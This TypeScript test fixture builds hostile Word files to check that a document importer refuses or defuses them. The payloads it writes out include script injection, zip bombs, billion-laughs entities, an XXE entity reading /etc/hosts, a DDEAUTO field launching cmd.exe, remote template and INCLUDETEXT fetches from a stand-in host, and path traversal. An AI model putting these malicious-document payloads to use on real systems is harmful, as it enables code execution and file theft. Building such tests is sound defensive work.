import { first, joined, last, type Made, published } from './hostile-made.ts';
import { odtFile } from './odt.ts';
import { field, par, run, STYLES, styled, type WordParts, wordFile } from './word.ts';

/** Word's text of the two paragraphs with something between them. */
const word = (body: string, parts?: WordParts): Promise<Uint8Array> =>
  wordFile(styled('Title', 'Ferry') + par(first) + body + par(last), parts);
const external = (type: string, target: string): string =>
  `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="x1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`;
const doctype = (declared: string, entity: string): string =>
  `<?xml version="1.0"?><!DOCTYPE w:document [${declared}]><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>${first} &${entity};</w:t></w:r></w:p></w:body></w:document>`;
const laughs = Array.from({ length: 9 }, (_, n) => `<!ENTITY a${n + 1} "${`&a${n};`.repeat(10)}">`).join('');
const tooLarge = 'the text of this document unpacks to more than 10000000 bytes, which no article has';
const noWord = 'this is not a Word document';
const spaces = ' '.repeat(10_000_001);

/** Documents of Word: bombs, what they take in from elsewhere, what they would run. */
export const hostileWord: readonly Made[] = [
  [
    'Word: code in a run',
    'docx',
    word(par(run('{globalThis.ran = 1} </Passage> <script>globalThis.ran=1</script> ]]>'))),
    { published: [first, '{globalThis.ran = 1} </Passage> <script>globalThis.ran=1</script> ]]>', last] },
  ],
  [
    'Word: a title that runs',
    'docx',
    wordFile(par(first) + par(last), { properties: '<dc:title>&lt;/title&gt;&lt;script&gt;globalThis.ran=1&lt;/script&gt;</dc:title>' }),
    { published, headline: '</title><script>globalThis.ran=1</script>' },
  ],
  ['Word: a text that unpacks to too much', 'docx', word(par(run(spaces))), { refused: tooLarge }],
  ['Word: comments that unpack to too much', 'docx', word('', { comments: spaces }), { refused: tooLarge }],
  [
    'Word: relations that unpack to too much',
    'docx',
    word('', { files: { 'word/_rels/settings.xml.rels': spaces } }),
    { refused: tooLarge },
  ],
  [
    'Word: many parts that unpack to too much',
    'docx',
    word('', { files: Object.fromEntries([1, 2, 3].map((n) => [`customXml/item${n}.xml`, ' '.repeat(4_000_000)])) }),
    { refused: tooLarge },
  ],
  [
    'Word: a file in it that unpacks to much',
    'docx',
    word('', { files: { 'word/embeddings/a.bin': '\0'.repeat(20_000_000) } }),
    { published },
  ],
  [
    'Word: entities that stand for too much',
    'docx',
    word('', { files: { 'word/document.xml': doctype(`<!ENTITY a0 "ha">${laughs}`, 'a9') } }),
    { published: [`${first} &a9;`] },
  ],
  [
    'Word: an entity that is a file',
    'docx',
    word('', { files: { 'word/document.xml': doctype('<!ENTITY x SYSTEM "file:///etc/hosts">', 'x') } }),
    { published: [`${first} &x;`] },
  ],
  [
    'Word: a link that runs',
    'docx',
    word(`<w:p><w:hyperlink r:id="a1">${run('The clerk')}</w:hyperlink>${run(' went home.')}</w:p>`, {
      targets: { a1: 'javascript:globalThis.ran=1' },
    }),
    { published: [first, 'The clerk went home.', last], leftOut: ['javascript:'] },
  ],
  [
    'Word: a field that runs',
    'docx',
    word(`<w:p>${field('HYPERLINK "vbscript:msgbox(1)"', run('The clerk'))}${run(' went home.')}</w:p>`),
    { published: [first, 'The clerk went home.', last], leftOut: ['vbscript:'] },
  ],
  [
    'Word: a command of DDE',
    'docx',
    word(`<w:p>${field('DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"', run('The clerk'))}${run(' went home.')}</w:p>`),
    { published: [first, 'The clerk went home.', last] },
  ],
  [
    'Word: a text that is taken in from elsewhere',
    'docx',
    word(`<w:p>${field('INCLUDETEXT "https://elsewhere.example/x.docx"', run('The clerk'))}${run(' went home.')}</w:p>`),
    { published: [first, 'The clerk went home.', last] },
  ],
  [
    'Word: a template from elsewhere',
    'docx',
    word('', { files: { 'word/_rels/settings.xml.rels': external('attachedTemplate', 'https://elsewhere.example/x.dotm') } }),
    { published },
  ],
  [
    'Word: a part from elsewhere',
    'docx',
    word('<w:altChunk r:id="x1"/>', { targets: { x1: 'https://elsewhere.example/x.html' } }),
    { published, leftOut: ['1 embedded file (“https://elsewhere.example/x.html”)'] },
  ],
  ['Word: macros', 'docx', word('', { files: { 'word/vbaProject.bin': 'Attribute VB_Name', 'word/vbaData.xml': '<x/>' } }), { published }],
  [
    'Word: a path out of the folder',
    'docx',
    word('', { files: { '../../../out.xml': '<x/>', '/etc/out.xml': '<x/>', __proto__: 'x' } }),
    { published },
  ],
  ['Word: how its styles are to become elements', 'docx', word('', { files: { 'mammoth/style-map': 'p => script' } }), { published }],
  [
    'Word: a style with the name of a prototype',
    'docx',
    word(styled('constructor', 'The clerk went home.') + styled('__proto__', 'And came again.'), {
      styles: `${STYLES}<w:style w:type="paragraph" w:styleId="constructor"><w:name w:val="__proto__"/></w:style>`,
    }),
    { published: [first, 'The clerk went home.', 'And came again.', last] },
  ],
  [
    'Word: encrypted',
    'docx',
    joined([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1], '\0'.repeat(504), [...Buffer.from('EncryptedPackage', 'utf16le')]),
    { refused: 'this document has a password' },
  ],
  ['Word: another archive', 'docx', odtFile('<text:p>x</text:p>'), { refused: 'this is an OpenDocument text, whatever its name says' }],
  ['Word: half of it', 'docx', word('').then((whole) => whole.subarray(0, whole.length / 2)), { refused: noWord }],
  ['Word: nothing', 'docx', new Uint8Array(), { refused: noWord }],
  ['Word: an empty archive', 'docx', joined([0x50, 0x4b, 5, 6], Array(18).fill(0)), { refused: noWord }],
];
